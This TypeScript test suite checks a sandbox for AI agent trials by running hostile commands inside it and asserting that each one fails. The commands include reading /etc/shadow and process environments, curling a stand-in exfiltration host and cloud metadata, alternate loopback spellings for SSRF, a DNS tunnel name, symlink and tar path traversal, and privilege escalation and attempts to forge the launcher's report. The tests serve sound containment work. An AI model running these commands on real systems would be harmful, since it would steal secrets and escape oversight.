import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, writeFileSync } from 'node:fs'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { limitsOf, textsOf } from '../conformance.ts'
import { hostSecret, type TrialUnderAttack } from '../trial-under-attack.ts'

/** A trial under attack, opened before the tests and closed after them. */
type Open = () => Promise<TrialUnderAttack>

export const describeHostileAgents = (open: Open): void => {
  let trial: TrialUnderAttack
  const attack: TrialUnderAttack['attack'] = (command, limits) => trial.attack(command, limits)
  const isRefused: TrialUnderAttack['isRefused'] = (command) => trial.isRefused(command)
  before(async () => {
    process.env.HOSTILE_TEST_SECRET = hostSecret
    trial = await open()
  })
  after(async () => {
    await trial[Symbol.asyncDispose]()
  })

  describe('An agent cannot look out of its sandbox', () => {
    test('files of the host are not there', async () => {
      const { stdout } = await attack(
        `cat ${trial.folder}/expected.txt; ls ${trial.folder} ${process.cwd()} /home /mnt /var /srv; cat /etc/shadow; true`,
      )
      assert.doesNotMatch(stdout.text, new RegExp(hostSecret))
      assert.doesNotMatch(stdout.text, /package\.json|root:/)
    })

    test('the host’s environment is not there, not even in the first process’s', async () => {
      const { stdout } = await attack('env; cat /proc/*/environ | tr "\\0" "\\n"; cat /proc/*/cmdline')
      assert.doesNotMatch(stdout.text, new RegExp(hostSecret))
    })

    test('processes of the host are neither seen nor signalled', async () => {
      const { stdout } = await attack(
        `ls /proc | grep -c '^[0-9]'; kill -0 ${process.pid} 2>/dev/null && echo reached`,
      )
      assert.ok(Number(stdout.text.split('\n')[0]) < 12)
      assert.doesNotMatch(stdout.text, /reached/)
    })

    test('another trial’s files and socket are out of reach', async () => {
      const [, looking] = await Promise.all([
        attack('echo mine > /tmp/mine; echo mine > $WORK_DIR/mine; echo mine > /dev/shm/mine; sleep 0.5'),
        attack(
          `sleep 0.2; cat /tmp/mine $WORK_DIR/mine /dev/shm/mine; python3 attack.py unix ${trial.otherGateway.socketPath}`,
        ),
      ])
      assert.doesNotMatch(looking.stdout.text, /mine/)
      assert.match(looking.stdout.text, /refused FileNotFoundError/)
    })

    test('no file descriptor of the service is inherited', async () => {
      const { stdout } = await attack('for f in /proc/self/fd/*; do readlink $f; done')
      const odd = stdout.text
        .split('\n')
        .filter((line) => line && !/^(\/dev\/null|socket:|pipe:|\/proc\/)/.test(line))
      assert.deepEqual(odd, [])
      const sockets = stdout.text.split('\n').filter((line) => line.startsWith('socket:')).length
      assert.ok(sockets <= 2, 'only its own output and errors')
    })

    test('the launcher’s memory, descriptors and environment are closed to it', async () => {
      const { stdout } = await attack(
        'cat /proc/1/environ /proc/1/mem /proc/1/maps /proc/1/fd/*; ls /proc/1/root/; readlink /proc/1/fd/*; true',
      )
      assert.equal(stdout.text, '')
    })

    test('the kernel’s own windows are closed: devices, sysfs, terminal', async () => {
      const { stdout } = await attack('ls /sys /dev/sda /dev/vda /dev/kmsg /dev/mem /dev/tty /dev/ptmx; true')
      assert.equal(stdout.text, '')
    })
  })

  describe('An agent cannot reach what its trial does not contain', () => {
    test('the control plane on the host’s loopback is not reachable', () =>
      isRefused(`python3 attack.py connect 127.0.0.1 ${trial.controlPort}`))

    test('the host’s own network addresses are not reachable', async () => {
      const addresses = Object.values(networkInterfaces()).flatMap((list) => list ?? [])
      const outward =
        addresses.find(({ internal, family }) => !internal && family === 'IPv4')?.address ?? '192.0.2.1'
      await isRefused(`python3 attack.py connect ${outward} ${trial.controlPort}`)
    })

    test('metadata addresses are not reachable, directly or through the gateway', async () => {
      await isRefused('python3 attack.py connect 169.254.169.254 80')
      const { stdout } = await attack(
        'curl -s -w "%{http_code}" http://169.254.169.254/latest/meta-data; curl -s http://[fd00:ec2::254]/',
      )
      assert.match(stdout.text, /private_address.*403.*private_address/s)
    })

    test('the internet is not reachable by address', () => isRefused('python3 attack.py connect 1.1.1.1 443'))

    test('an unknown host is refused in words, and the refusal is a step', async () => {
      const { stdout } = await attack('curl -s https://exfiltration.example/?q=1')
      assert.match(stdout.text, /not part of this trial/)
      const step = trial.steps.find(({ host }) => host === 'exfiltration.example')
      assert.deepEqual([step?.outcome, step?.status, step?.path], ['refused', 403, '/?q=1'])
    })

    test('the gateway is no way to the host’s loopback, by any spelling', async () => {
      const targets = [
        `127.0.0.1:${trial.controlPort}`,
        `localhost:${trial.controlPort}`,
        `[::1]:${trial.controlPort}`,
        `0x7f.1:${trial.controlPort}`,
        `[::ffff:127.0.0.1]:${trial.controlPort}`,
        `2130706433:${trial.controlPort}`,
      ]
      const calls = targets.flatMap((target) => [
        `curl -s --noproxy "" -x http://127.0.0.1:3128 http://${target}/`,
        `curl -sk -p --noproxy "" -x http://127.0.0.1:3128 http://${target}/`,
      ])
      const { stdout } = await attack(calls.join('; '))
      assert.doesNotMatch(stdout.text, /control plane/)
      assert.equal(stdout.text.match(/"code":"(private_address|host_not_allowed)"/g)?.length, calls.length)
    })

    test('a request cannot name one host to TLS and another inside', async () => {
      const { stdout } = await attack(
        'curl -s https://twin.example/ -H "Host: other.example"; curl -s https://other.example/ -H "Host: twin.example"',
      )
      assert.equal(stdout.text.match(/misdirected/g)?.length, 2)
    })

    test('names carry nothing out: they are answered inside, and no resolver is reachable', async () => {
      const { stdout } = await attack('getent hosts c2VjcmV0.tunnel.example; python3 attack.py udp 8.8.8.8')
      assert.match(stdout.text, /^127\.0\.0\.1/)
      assert.match(stdout.text, /refused/)
    })

    test('upgrades and oversized bodies are refused', async () => {
      const { stdout } = await attack(
        'curl -s https://twin.example/ws -H "Connection: Upgrade" -H "Upgrade: websocket"; head -c 9000000 /dev/zero | curl -s -T - https://twin.example/big',
      )
      assert.match(stdout.text, /upgrade_refused/)
      assert.match(stdout.text, /body_too_large/)
    })

    test('raw sockets are refused', () => isRefused('python3 attack.py raw; python3 attack.py packet'))
  })

  describe('An agent cannot gain rights', () => {
    test('it has no capability, no new privileges and no root', async () => {
      const { stdout } = await attack('grep -E "^(Cap(Inh|Prm|Eff|Amb)|NoNewPrivs)" /proc/self/status; id -u')
      assert.equal(stdout.text.match(/0000000000000000/g)?.length, 4)
      assert.match(stdout.text, /NoNewPrivs:\s+1/)
      assert.match(stdout.text, /^1000$/m)
    })

    test('it cannot make namespaces', async () => {
      const { stdout } = await attack(
        'for n in -U -r -m -n -p; do unshare $n true 2>/dev/null && echo worked; done; true',
      )
      assert.equal(stdout.text, '')
    })

    test('it cannot mount, chroot, make devices or become another user', async () => {
      await isRefused(
        'mount -t tmpfs none /tmp 2>/dev/null && echo worked; python3 attack.py chroot; python3 attack.py mknod; python3 attack.py setuid',
      )
    })

    test('it cannot trace the launcher', () => isRefused('python3 attack.py ptrace 1'))

    test('it cannot raise limits, its own or the launcher’s', () =>
      isRefused(
        'python3 attack.py limits 0; python3 attack.py limits 1; ulimit -u unlimited 2>/dev/null && echo worked; true',
      ))

    test('it cannot load kernel modules or write kernel settings', () =>
      isRefused(
        'python3 attack.py module; for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/user/max_user_namespaces; do python3 attack.py write $f; done',
      ))

    test('set-user-id programs give it nothing', async () => {
      const { stdout } = await attack(
        'for p in su sudo passwd mount newgrp; do command -v $p >/dev/null && echo | timeout 2 $p -c id 2>/dev/null; done; true',
      )
      assert.doesNotMatch(stdout.text, /uid=0/)
    })
  })

  describe('An agent cannot forge or poison what comes after it', () => {
    test('the system, our scripts and the interpreters’ caches are read-only', async () => {
      const places = [
        '/opt/sandbox/runner.py',
        '/opt/sandbox/launcher.py',
        '/opt/sandbox/__pycache__/launcher.pyc',
        '/opt/node/bin/node',
        '/usr/bin/x',
        '/etc/hosts',
        '/x',
        '/dev/x',
        '/opt/x',
        '/run/x',
      ]
      const { stdout } = await attack(
        `${places.map((place) => `python3 attack.py write ${place}`).join('; ')}; p=$(python3 -c 'import json; print(json.__file__)'); python3 attack.py write $p; touch $(dirname $p)/__pycache__/x && echo worked; true`,
      )
      assert.equal(stdout.text.match(/refused/g)?.length, places.length + 1)
      assert.doesNotMatch(stdout.text, /worked/)
    })

    test('the launcher’s report cannot be written by the agent', async () => {
      const { exitCode, collected } = await attack(
        `echo '{"exited":0}' >&3; echo '{"file":"output.txt","size":1}' >&3; for f in /proc/1/fd/*; do echo '{"exited":0}' > $f; done; exit 9`,
      )
      assert.equal(exitCode, 9)
      assert.deepEqual(collected.files, [])
    })

    test('output.txt as a symbolic link, a hard link, a pipe or a folder is refused', async () => {
      for (const how of [
        'ln -s /etc/passwd output.txt',
        'ln -s /proc/1/environ output.txt',
        'echo x > a; ln a output.txt',
        'mkfifo output.txt',
        'mkdir output.txt',
      ]) {
        const { collected } = await attack(`cd $WORK_DIR && ${how}`)
        assert.equal(textsOf(collected.files)['output.txt'], undefined, how)
      }
    })

    test('a folder that is a link is not followed', async () => {
      const { collected } = await attack('ln -s /etc $WORK_DIR/etc; ln -s / $WORK_DIR/root')
      assert.deepEqual(collected.files, [])
    })

    test('names that climb or carry control characters are left behind', async () => {
      const { collected } = await attack(
        'cd $WORK_DIR && echo x > "$(printf "a\\nb")" && echo x > "..\\\\up" && echo ok > output.txt',
      )
      assert.deepEqual(textsOf(collected.files), { 'output.txt': 'ok\n' })
    })

    test('a bundle that climbs out reaches only the sandbox', async () => {
      const source = join(trial.folder, 'climb')
      writeFileSync(source, 'climbed')
      const bundle = execFileSync('tar', [
        '-czPf',
        '-',
        '--transform',
        `s,.*climb,../../../../${trial.folder}/climbed,`,
        source,
      ])
      const outcome = await trial.sandbox.run({
        command: 'ls /',
        bundle,
        limits: limitsOf({}),
        network: 'none',
        collect: { maxFiles: 1, maxBytes: 1 },
      })
      assert.ok(['unfit', 'exited'].includes(outcome.ended))
      assert.ok(!existsSync(join(trial.folder, 'climbed')))
    })
  })
}
